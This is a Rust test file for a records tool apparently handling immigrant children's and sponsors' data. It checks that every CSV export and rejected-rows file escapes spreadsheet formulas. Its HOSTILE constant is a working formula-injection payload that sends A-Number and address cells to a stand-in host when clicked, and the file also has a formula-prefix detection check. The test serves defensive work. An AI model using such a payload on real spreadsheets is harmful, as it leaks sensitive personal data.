//! CSV formula injection: a given name that is a spreadsheet formula, written by every CSV
//! Tether produces (full export, redacted export, rejected rows), comes out as text; a full
//! export still imports into another vault with the same names and E.164 phones.

use std::fs;

use tether_tests::{Clinic, ADMIN, ADMIN_PASS, RELEASE_HEADER};

/// Sends the row's A-Number (Q) and address (R) columns away when clicked in a spreadsheet.
const HOSTILE: &str = r#"=HYPERLINK("https://x?x="&Q2&R2,"Open")"#;

/// A release row for `given`, written by the csv crate so the formula's quotes are escaped.
fn release_file(rows: &[[&str; 23]]) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(RELEASE_HEADER.split(',')).expect("header");
    for row in rows {
        w.write_record(row).expect("row");
    }
    String::from_utf8(w.into_inner().expect("flush")).expect("utf-8")
}

fn row<'a>(given: &'a str, a_number: &'a str, zip: &'a str) -> [&'a str; 23] {
    [
        given,
        "Ramírez",
        "2010-05-01",
        a_number,
        "GT",
        "mam",
        "yes",
        "2026-10-01",
        "",
        "@Rosa",
        "-Ramírez",
        "tía",
        "2A",
        "+502 5123 4567",
        "45 Calle Ñuñoa",
        "",
        "Houston",
        "TX",
        zip,
        "not_served",
        "",
        "",
        "",
    ]
}

/// Every cell of a CSV file, header included.
fn cells(path: &std::path::Path) -> Vec<Vec<String>> {
    let text = fs::read_to_string(path).expect("csv written");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("record").iter().map(str::to_owned).collect())
        .collect()
}

/// No cell of `table` may start the way a spreadsheet runs a formula.
fn assert_no_formula(table: &[Vec<String>], what: &str) {
    for (line, row) in table.iter().enumerate() {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what} line {}: {cell:?} would run as a formula",
                line + 1
            );
        }
    }
}

#[test]
fn a_formula_as_a_given_name_is_written_as_text_in_every_export() {
    let clinic = Clinic::with_admin();
    let file = clinic.write(
        "releases.csv",
        &release_file(&[row(HOSTILE, "A123456789", "77002")]),
    );
    clinic.admin(&["import", file.to_str().expect("path")]);

    let full = clinic.path("full.csv");
    let full_arg = full.to_str().expect("path");
    clinic.admin(&[
        "export",
        "--out",
        full_arg,
        "--full",
        "--reason",
        "court filing for EOIR-33",
    ]);
    let table = cells(&full);
    assert_no_formula(&table, "full export");
    let header = &table[0];
    let value = |name: &str| {
        let i = header.iter().position(|h| h == name).expect("column");
        table[1][i].clone()
    };
    assert_eq!(value("child_given_name"), format!("'{HOSTILE}"));
    assert_eq!(value("sponsor_given_name"), "'@Rosa");
    assert_eq!(value("sponsor_family_name"), "'-Ramírez");
    // The phone stays E.164, as text: a spreadsheet would read +502… as a number.
    assert_eq!(value("sponsor_phone"), "'+50251234567");
    assert_eq!(value("a_number"), "A123456789");

    let redacted = clinic.path("redacted.csv");
    clinic.admin(&["export", "--out", redacted.to_str().expect("path")]);
    assert_no_formula(&cells(&redacted), "redacted export");

    // The full export is an import file: another vault reads back the same values.
    let other = Clinic::with_admin();
    other.admin(&["import", full_arg]);
    let list = other.admin_json(&["child", "list", "--json"]);
    let id = list[0]["id"].to_string();
    let child = other.admin_json(&["child", "show", &id, "--json"]);
    assert_eq!(child["given_name"], HOSTILE);
    assert_eq!(child["sponsor"]["given_name"], "@Rosa");
    assert_eq!(child["sponsor"]["family_name"], "-Ramírez");
    assert_eq!(child["sponsor"]["phones"][0], "+50251234567");
}

#[test]
fn rejected_rows_files_carry_no_formula_either() {
    let clinic = Clinic::with_admin();
    // A bad ZIP code rejects the row; its hostile cells go to the rejected-rows file.
    let file = clinic.write(
        "releases.csv",
        &release_file(&[
            row("José", "A123456789", "77002"),
            row(HOSTILE, "A223456789", "not-a-zip"),
        ]),
    );
    clinic.ok(
        ADMIN,
        ADMIN_PASS,
        &["import", file.to_str().expect("path"), "--skip-invalid"],
        &[],
    );
    let rejected = cells(&clinic.path("releases.rejected.csv"));
    assert_no_formula(&rejected, "rejected rows");
    assert_eq!(rejected[1][0], format!("'{HOSTILE}"));
    assert_eq!(rejected[1][13], "'+502 5123 4567");
}
